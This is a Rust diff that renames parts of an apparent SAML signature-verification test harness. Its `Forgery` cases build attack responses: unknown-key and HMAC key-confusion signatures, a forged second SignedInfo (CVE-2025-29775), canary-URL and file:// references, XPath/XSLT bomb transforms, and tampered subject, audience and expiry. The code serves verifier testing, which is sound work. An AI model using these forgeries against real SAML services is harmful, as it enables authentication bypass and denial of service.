@@ -2,7 +2,7 @@
 
 use anyhow::Result;
 
-use super::{Facts, step, step_at};
+use super::{FaultContext, step, step_at};
 use crate::saml::names::{ENVELOPED, EXCLUSIVE};
 use crate::saml::plan::{Plan, Signer};
 use crate::saml::signature::{Credential, Digest, Method, reference};
@@ -16,13 +16,13 @@ pub enum Forgery {
     /// Another key signed, and shows its certificate.
     SelfSigned,
     /// Another key signed, and shows the provider's certificate.
-    StrangerUnderOurCertificate,
+    UnknownKeyUnderProviderCertificate,
     /// Another key signed, and shows itself as `KeyValue`.
-    StrangerKeyValue,
+    UnknownKeyValue,
     /// Another key signed, and says where to fetch it: `RetrievalMethod`.
-    StrangerRetrievalMethod,
+    UnknownKeyRetrievalMethod,
     /// Another key signed, and says nothing.
-    StrangerBare,
+    UnknownKeyWithoutKeyInfo,
     /// The right key, and no `KeyInfo`: sound.
     NoKeyInfo,
     /// The right key under somebody else's certificate: sound, for nobody reads it.
@@ -50,7 +50,7 @@ pub enum Forgery {
     /// A value of zeros.
     ZeroValue,
     /// One bit of the value is turned.
-    BitTurned,
+    BitFlipped,
     /// No `SignedInfo`.
     NoSignedInfo,
     /// A second, forged `SignedInfo` (CVE-2025-29775).
@@ -110,64 +110,68 @@ const XSLT: &str = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.or
 <xsl:call-template name=\"t\"><xsl:with-param name=\"n\" select=\"$n - 1\"/></xsl:call-template></xsl:if></xsl:template></xsl:stylesheet>";
 
 impl Forgery {
-    pub(super) fn apply(self, plan: &mut Plan, facts: &Facts<'_>) -> Result<()> {
-        let stranger = || Signer::Stranger(Box::new(facts.stranger.clone()));
+    pub(super) fn apply(self, plan: &mut Plan, context: &FaultContext<'_>) -> Result<()> {
+        let unknown_key = || Signer::UnknownKey(Box::new(context.unknown_key.clone()));
         match self {
             Self::Unsigned => plan.signed = None,
-            Self::SelfSigned => plan.signer = stranger(),
-            Self::StrangerUnderOurCertificate => {
-                plan.signer = stranger();
-                plan.key_info = Some(Some(facts.honest.key_info()?));
+            Self::SelfSigned => plan.signer = unknown_key(),
+            Self::UnknownKeyUnderProviderCertificate => {
+                plan.signer = unknown_key();
+                plan.key_info = Some(Some(context.provider.key_info()?));
             }
-            Self::StrangerKeyValue => {
-                plan.signer = stranger();
-                plan.key_info = Some(Some(key_value(facts.stranger)?));
+            Self::UnknownKeyValue => {
+                plan.signer = unknown_key();
+                plan.key_info = Some(Some(key_value(context.unknown_key)?));
             }
-            Self::StrangerRetrievalMethod => {
-                plan.signer = stranger();
+            Self::UnknownKeyRetrievalMethod => {
+                plan.signer = unknown_key();
                 let retrieval = Element::new("ds:RetrievalMethod")
-                    .with("URI", format!("{}/certificate", facts.canary))
+                    .with("URI", format!("{}/certificate", context.canary))
                     .with(
                         "Type",
                         "http://www.w3.org/2000/09/xmldsig#rawX509Certificate",
                     );
                 plan.key_info = Some(Some(Element::new("ds:KeyInfo").child(retrieval)));
             }
-            Self::StrangerBare => {
-                plan.signer = stranger();
+            Self::UnknownKeyWithoutKeyInfo => {
+                plan.signer = unknown_key();
                 plan.key_info = Some(None);
             }
             Self::NoKeyInfo => plan.key_info = Some(None),
-            Self::ForeignKeyInfo => plan.key_info = Some(Some(facts.stranger.key_info()?)),
-            Self::HmacPublicKey => plan.signer = Signer::Hmac(facts.honest.key().public_pem()?),
+            Self::ForeignKeyInfo => plan.key_info = Some(Some(context.unknown_key.key_info()?)),
+            Self::HmacPublicKey => plan.signer = Signer::Hmac(context.provider.key().public_pem()?),
             Self::HmacCertificate => {
-                plan.signer = Signer::Hmac(facts.honest.certificate().to_der()?);
+                plan.signer = Signer::Hmac(context.provider.certificate().to_der()?);
             }
             Self::HmacEmpty => plan.signer = Signer::Hmac(vec![0]),
             Self::HmacOutputLength => {
                 plan.signer = Signer::Hmac(vec![0]);
-                plan.signing.push(step_at(&["SignatureMethod"], |method| {
-                    method.append(Element::new("ds:HMACOutputLength").text("0"));
-                }));
-                plan.sealed.push(value(|_| String::new()));
+                plan.on_signed_info
+                    .push(step_at(&["SignatureMethod"], |method| {
+                        method.append(Element::new("ds:HMACOutputLength").text("0"));
+                    }));
+                plan.on_signature.push(value(|_| String::new()));
             }
             Self::Sha1 => (plan.method, plan.digest) = (Some(Method::RsaSha1), Digest::Sha1),
             Self::Sha1Digest => plan.digest = Digest::Sha1,
             Self::Md5 => (plan.method, plan.digest) = (Some(Method::RsaMd5), Digest::Md5),
             Self::Sha512 => (plan.method, plan.digest) = (Some(Method::RsaSha512), Digest::Sha512),
-            Self::UnknownMethod => plan.signing.push(step_at(&["SignatureMethod"], |method| {
-                method.set("Algorithm", "urn:example:trust-me");
-            })),
-            Self::EmptyValue => plan.sealed.push(value(|_| String::new())),
-            Self::ZeroValue => plan.sealed.push(value(|_| "A".repeat(344))),
-            Self::BitTurned => plan.sealed.push(value(|text| {
+            Self::UnknownMethod => {
+                plan.on_signed_info
+                    .push(step_at(&["SignatureMethod"], |method| {
+                        method.set("Algorithm", "urn:example:trust-me");
+                    }))
+            }
+            Self::EmptyValue => plan.on_signature.push(value(|_| String::new())),
+            Self::ZeroValue => plan.on_signature.push(value(|_| "A".repeat(344))),
+            Self::BitFlipped => plan.on_signature.push(value(|text| {
                 let first = if text.starts_with('A') { "B" } else { "A" };
                 format!("{first}{}", text.get(1..).unwrap_or_default())
             })),
-            Self::NoSignedInfo => plan.sealed.push(step(|signature| {
+            Self::NoSignedInfo => plan.on_signature.push(step(|signature| {
                 signature.take("SignedInfo");
             })),
-            Self::TwoSignedInfos => plan.sealed.push(step(|signature| {
+            Self::TwoSignedInfos => plan.on_signature.push(step(|signature| {
                 if let Some(mut forged) = signature.find("SignedInfo").cloned() {
                     if let Some(value) = forged.at_mut(&["Reference", "DigestValue"]) {
                         value.set_text("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");
@@ -176,7 +180,7 @@ impl Forgery {
                 }
             })),
             Self::DigestComment => {
-                plan.sealed.push(step_at(
+                plan.on_signature.push(step_at(
                     &["SignedInfo", "Reference", "DigestValue"],
                     |value| {
                         let comment = Node::Comment(
@@ -188,26 +192,26 @@ impl Forgery {
             }
             Self::DigestOfNothing => {
                 let nothing = Digest::Sha256.of("")?;
-                plan.signing
+                plan.on_signed_info
                     .push(step_at(&["Reference", "DigestValue"], move |value| {
                         value.set_text(&nothing);
                     }));
             }
-            Self::NoReference => plan.signing.push(step(|signed_info| {
+            Self::NoReference => plan.on_signed_info.push(step(|signed_info| {
                 signed_info.take("Reference");
             })),
-            Self::TwoReferences => plan.signing.push(step(|signed_info| {
+            Self::TwoReferences => plan.on_signed_info.push(step(|signed_info| {
                 let first = signed_info.find("Reference").cloned();
                 signed_info.children.extend(first.map(Node::Element));
             })),
             Self::ReferenceEmpty => refer(plan, String::new()),
             Self::ReferenceHttp => {
-                plan.signer = stranger();
-                refer(plan, format!("{}/reference", facts.canary));
+                plan.signer = unknown_key();
+                refer(plan, format!("{}/reference", context.canary));
             }
             Self::ReferenceFile => {
-                plan.signer = stranger();
-                refer(plan, format!("file://{}", facts.trap));
+                plan.signer = unknown_key();
+                refer(plan, format!("file://{}", context.canary_file));
             }
             Self::ReferenceElsewhere => refer(plan, "#_elsewhere".to_owned()),
             Self::ReferenceXPointer => refer(plan, "#xpointer(/)".to_owned()),
@@ -217,60 +221,70 @@ impl Forgery {
             }
             Self::XPathTransform => transform(plan, &xpath("count(//. | //@*) > 0")),
             Self::XPathBomb => {
-                plan.signer = stranger();
+                plan.signer = unknown_key();
                 transform(
                     plan,
                     &xpath("count(//*[count(//*[count(//*) > 1]) > 1]) > 0"),
                 );
-                plan.finished.push(step(|response| {
+                plan.after_response_signature.push(step(|response| {
                     let padding = (0..2_000).map(|_| Element::new("samlp:Padding"));
                     response
                         .insert_after("Issuer", Element::new("samlp:Extensions").children(padding));
                 }));
             }
             Self::XsltTransform => {
-                plan.signer = stranger();
-                transform(plan, &xslt(facts.canary, 1)?);
+                plan.signer = unknown_key();
+                transform(plan, &xslt(context.canary, 1)?);
             }
             Self::XsltBomb => {
-                plan.signer = stranger();
-                transform(plan, &xslt(facts.canary, 40)?);
+                plan.signer = unknown_key();
+                transform(plan, &xslt(context.canary, 40)?);
             }
             Self::ManyTransforms => {
                 let again = Element::new("ds:Transform").with("Algorithm", EXCLUSIVE);
                 transform(plan, &again);
                 transform(plan, &again);
             }
-            Self::NotEnveloped => plan
-                .signing
-                .push(step_at(&["Reference", "Transforms"], |all| {
-                    all.children.remove(0);
-                })),
+            Self::NotEnveloped => {
+                plan.on_signed_info
+                    .push(step_at(&["Reference", "Transforms"], |all| {
+                        all.children.remove(0);
+                    }))
+            }
             Self::WithComments => {
                 canonicalize(plan, "http://www.w3.org/2001/10/xml-exc-c14n#WithComments")
             }
             Self::Inclusive => {
                 canonicalize(plan, "http://www.w3.org/TR/2001/REC-xml-c14n-20010315")
             }
-            Self::Object => plan.sealed.push(step(|signature| {
+            Self::Object => plan.on_signature.push(step(|signature| {
                 signature.append(Element::new("ds:Object").text("a decoy"));
             })),
-            Self::TamperedSubject => plan.asserted.push(step(super::falsify)),
+            Self::TamperedSubject => plan
+                .after_assertion_signature
+                .push(step(super::forge_subject)),
             Self::TamperedAttribute => {
-                plan.asserted
-                    .push(step_at(&["AttributeStatement", "Attribute"], |attribute| {
+                plan.after_assertion_signature.push(step_at(
+                    &["AttributeStatement", "Attribute"],
+                    |attribute| {
                         attribute.set("Name", "groups");
-                    }));
+                    },
+                ));
             }
             Self::TamperedAudience => {
                 let path = &["Conditions", "AudienceRestriction"];
-                plan.asserted.push(step_at(path, |restriction| {
-                    restriction.append(Element::new("saml:Audience").text("https://evil.example"));
-                }));
+                plan.after_assertion_signature
+                    .push(step_at(path, |restriction| {
+                        restriction
+                            .append(Element::new("saml:Audience").text("https://evil.example"));
+                    }));
             }
-            Self::TamperedTime => plan.asserted.push(step_at(&["Conditions"], |conditions| {
-                conditions.set("NotOnOrAfter", "2099-01-01T00:00:00Z");
-            })),
+            Self::TamperedTime => {
+                plan.after_assertion_signature
+                    .push(step_at(&["Conditions"], |conditions| {
+                        conditions.set("NotOnOrAfter", "2099-01-01T00:00:00Z");
+                    }))
+            }
         }
         Ok(())
     }
@@ -285,7 +299,7 @@ fn value(change: impl Fn(&str) -> String + 'static) -> crate::saml::plan::Step {
 
 /// Signs a reference to `uri`, with the digest of what should have been referred to.
 fn refer(plan: &mut Plan, uri: String) {
-    plan.signing.push(step(move |signed_info| {
+    plan.on_signed_info.push(step(move |signed_info| {
         let honest = signed_info.take("Reference").unwrap_or_default();
         let digest = honest.find("DigestValue").map(Element::own_text);
         let digest = digest.unwrap_or_default();
@@ -296,14 +310,14 @@ fn refer(plan: &mut Plan, uri: String) {
 /// Signs with one more transform, the last.
 fn transform(plan: &mut Plan, transform: &Element) {
     let transform = transform.clone();
-    plan.signing
+    plan.on_signed_info
         .push(step_at(&["Reference", "Transforms"], move |all| {
             all.append(transform.clone());
         }));
 }
 
 fn canonicalize(plan: &mut Plan, method: &'static str) {
-    plan.signing
+    plan.on_signed_info
         .push(step_at(&["Reference", "Transforms"], move |all| {
             let kept = Element::new("ds:Transform").with("Algorithm", ENVELOPED);
             *all = Element::new("ds:Transforms")
